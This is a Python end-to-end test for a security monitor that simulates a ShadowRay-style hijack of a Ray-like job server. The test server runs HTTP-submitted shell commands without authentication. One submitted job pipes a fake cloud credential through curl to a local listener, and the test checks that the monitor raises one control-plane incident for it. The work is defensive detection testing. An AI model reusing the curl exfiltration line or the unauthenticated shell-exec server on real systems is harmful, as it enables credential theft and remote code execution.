"""ShadowRay-like: a job server (a control-plane root by its command line,
Ray's dashboard) takes jobs over HTTP on 127.0.0.1 and runs each in a
shell, as Ray's JobSupervisor does. A legitimate job (a shell running
python on a script) raises nothing; a hijacked job that reads a fake
credential and posts it to 127.0.0.1 is one incident under the
control-plane-root rules. (A root that loads a model gains the model rules
too: tests/e2e/test_failclosed.py.)"""
import json
import os
import time
import urllib.request

from harness import Checks, Scenario, TestFailure, get, summary, touching

# Ray's dashboard path: one of the default control-plane command lines.
SERVER = r'''
import http.server, json, subprocess, sys
class Jobs(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        job = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        p = subprocess.Popen(["sh", "-c", job["entrypoint"]], stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        body = json.dumps({"rc": p.wait(30), "pid": p.pid}).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
srv = http.server.HTTPServer(("127.0.0.1", 0), Jobs)
open(sys.argv[2], "w").write(str(srv.server_address[1]))
srv.timeout = 0.5
end = __import__("time").monotonic() + 60
while __import__("time").monotonic() < end and not __import__("os").path.exists(sys.argv[3]):
    srv.handle_request()
'''


def submit(port, entrypoint):
    req = urllib.request.Request("http://127.0.0.1:%d/api/jobs/" % port,
                                 data=json.dumps({"entrypoint": entrypoint}).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=40) as r:
        doc = json.loads(r.read())
        return doc["rc"], doc["pid"]


def test_shadowray_like_job_is_one_root_incident():
    with Scenario("shadowray") as sc:
        cred = sc.fake_credentials()
        lst = sc.listener()
        server = sc.write("ray/dashboard/dashboard.py", SERVER)
        legit = sc.write("job/train.py", "print(sum(range(10)))\n")
        port_file, stop_file = sc.path("port"), sc.path("STOP")
        sc.start()
        import subprocess
        srv = subprocess.Popen(["/usr/bin/python3", server, "-", port_file, stop_file],
                               cwd=sc.dir, env=sc.env(), stdin=subprocess.DEVNULL,
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        try:
            end = time.monotonic() + 60
            while time.monotonic() < end and not os.path.exists(port_file):
                if srv.poll() is not None:
                    raise TestFailure("job server died: %s" % srv.stderr.read()[-400:])
                time.sleep(0.1)
            port = int(open(port_file).read())
            c = Checks("shadowray")
            rc, legit_sh = submit(port, "/usr/bin/python3 %s" % legit)
            c.eq(rc, 0, "legit job rc")
            evil = "cat %s | curl -s --data-binary @- http://127.0.0.1:%d/" % (cred, lst.port)
            submit(port, evil)
            if not lst.wait(1):
                raise TestFailure("the hijacked job never posted to the listener")
            sc.wait_alerts(lambda al: any(get(a, "loader", "pid") == srv.pid
                                          and get(a, "rule", "id") == "root-credential-read"
                                          for a in al))
        finally:
            open(stop_file, "w").close()
            try:
                srv.wait(10)
            except subprocess.TimeoutExpired:
                srv.kill()
                srv.wait(5)
        alerts = sc.stop()
        mine = [a for a in alerts if get(a, "loader", "pid") == srv.pid]
        rules = {get(a, "rule", "id") for a in mine}
        # the hijacked job is the control: the same root, the same shell
        c.true("root-credential-read" in rules, "no root-credential-read alert: %s" % sorted(rules))
        near = touching(alerts, legit_sh)
        c.true(not near, "the legitimate job (sh pid %d) raised: %s" % (legit_sh, summary(near)))
        c.true(all(r.startswith("root-") for r in rules),
               "model-loader rules fired for a control-plane job: %s" % sorted(rules))
        c.true(any(b"AKIAFAKEFAKEFAKE0000" in d for d in lst.received), "the listener got no credential")
        incs = [i for i in sc.mon.incidents if get(i, "loader", "pid") == srv.pid]
        ids = {i.get("incident") for i in incs}
        c.eq(len(ids), 1, "incidents for the job server")
        if incs:
            c.eq(get(incs[-1], "loader", "scope"), "control-plane", "incident loader.scope")
            steps = [s.get("step") for s in incs[-1].get("timeline") or []]
            c.true("credential_read" in steps, "timeline %s lacks credential_read" % steps)
        c.done()
